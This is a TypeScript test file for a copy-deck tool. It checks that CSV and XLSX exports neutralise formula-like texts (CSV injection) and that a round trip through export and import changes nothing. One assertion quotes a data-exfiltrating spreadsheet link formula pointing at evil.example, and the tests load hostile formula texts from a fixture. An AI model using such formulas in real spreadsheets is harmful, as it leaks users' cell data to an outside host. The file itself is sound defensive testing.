// Issue 28, item 4: a text that starts like a formula (=, +, -, @, tab, carriage return) is
// exported to CSV behind a quote, so a reviewer's spreadsheet program opens it as text instead of
// running it (OWASP, CSV injection), and the import takes exactly that quote off: an export and
// an import change nothing. The XLSX export writes every cell as a typed string, never a formula.
// The texts: tests/hostile/spreadsheets/formula-texts.json.
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import JSZip from 'jszip';
import Papa from 'papaparse';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { readCsv, readXlsx, writeCsv, writeXlsx, type Sheet } from '../../../studio/copy-deck/deckSheet.ts';
import { importCopy } from '../../../studio/copy-deck/importDeck.ts';
import { main as exportMain } from '../../../scripts/copy-export.ts';
import { main as importMain } from '../../../scripts/copy-import.ts';
import { HOSTILE_DIR } from '../../hostile/spreadsheets/hostileSheets.ts';
import { copyFixture, type Project } from './studioFixture.ts';

const TEXTS = (JSON.parse(readFileSync(join(HOSTILE_DIR, 'formula-texts.json'), 'utf8')) as Array<{ text: string }>).map((t) => t.text);
/** What Excel, LibreOffice and Google Sheets take for the start of a formula. */
const RUNS_AS_FORMULA = /^[=+\-@\t\r]/;
const sheet: Sheet = { header: ['id', 'phase', 'kind', 'default', 'parceiro'], rows: TEXTS.map((text, i) => [`t${i}`, 'intro', 'text', text, text]) };

let project: Project | undefined;
afterEach(() => {
  project?.remove();
  project = undefined;
  vi.restoreAllMocks();
});

/** The CSV's cells as a spreadsheet program reads them (no quote taken off). */
const rawCells = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: 'greedy' }).data.slice(1);

describe('issue 28 item 4: exported texts never become formulas', () => {
  it('CSV: no cell starts like a formula; each such text is behind exactly one more quote', () => {
    const cells = rawCells(writeCsv(sheet));
    expect(cells).toHaveLength(TEXTS.length);
    for (const [i, row] of cells.entries()) {
      for (const cell of row) expect(cell).not.toMatch(RUNS_AS_FORMULA);
      const text = TEXTS[i];
      const quoted = /^'*[=+\-@\t\r]/.test(text);
      expect(row[3], JSON.stringify(text)).toBe(quoted ? `'${text}` : text);
    }
    expect(cells[0][3]).toBe('\'=HYPERLINK("https://evil.example/?d="&A1,"Clique aqui")');
  });

  it('CSV: reading it back gives every text exactly as it was', () => {
    expect(readCsv(writeCsv(sheet))).toEqual(sheet);
  });

  it('XLSX: every cell is a typed string (no formula in the file), read back as written', async () => {
    const file = await writeXlsx(sheet);
    const xml = await (await JSZip.loadAsync(file)).file('xl/worksheets/sheet1.xml')!.async('string');
    expect(xml).not.toMatch(/<f[\s>]/);
    const cells = [...xml.matchAll(/<c\b[^>]*>/g)].map(([tag]) => tag);
    expect(cells).toHaveLength((TEXTS.length + 1) * sheet.header.length);
    for (const tag of cells) expect(tag).toMatch(/\bt="(inlineStr|s|str)"/);
    // XML reads a lone carriage return as a line break, as the import does with any line break.
    const lines = (s: Sheet) => ({ header: s.header, rows: s.rows.map((row) => row.map((cell) => cell.replace(/\r\n?/g, '\n'))) });
    expect(await readXlsx(file)).toEqual(lines(sheet));
  });

  it('npm run copy:export then copy:import of the CSV changes nothing; a quote kept by the reviewer is the one taken off', async () => {
    project = copyFixture();
    vi.spyOn(console, 'log').mockImplementation(() => {});
    const errors = vi.spyOn(console, 'error').mockImplementation(() => {});
    const out = join(project.root, 'copy.csv');
    expect(await exportMain(['--out', out, '--root', project.root])).toBe(0);
    const start = readCsv(readFileSync(out, 'utf8'));
    const set = (s: Sheet, id: string, text: string) => ({ ...s, rows: s.rows.map((row) => (row[0] === id ? row.map((c, i) => (i === 3 ? text : c)) : row)) });
    // Content with formula-like texts: a link formula and a phone number.
    await importCopy(project.root, set(set(start, 'bye', TEXTS[0]), 'hello', '+55 11 4004-0000'));
    expect(project.read('flows/intro.yaml')).toContain('+55 11 4004-0000');
    const before = project.snapshot();

    expect(await exportMain(['--out', out, '--root', project.root])).toBe(0);
    const csv = readFileSync(out, 'utf8');
    expect(csv).toContain('"\'=HYPERLINK(""https://evil.example/');
    expect(csv).toContain('"\'+55 11 4004-0000"');
    expect(await importMain([out, '--root', project.root])).toBe(0);
    expect(project.snapshot()).toEqual(before);

    // The reviewer changes the number and keeps the quote, as the spreadsheet program showed it.
    writeFileSync(out, csv.replace('"\'+55 11 4004-0000"', '"\'+55 11 4004-1111"'));
    expect(await importMain([out, '--root', project.root])).toBe(0);
    expect(project.read('flows/intro.yaml')).toContain('+55 11 4004-1111');
    expect(project.read('flows/intro.yaml')).not.toContain("'+55");
    expect(errors).not.toHaveBeenCalled();
  });
});
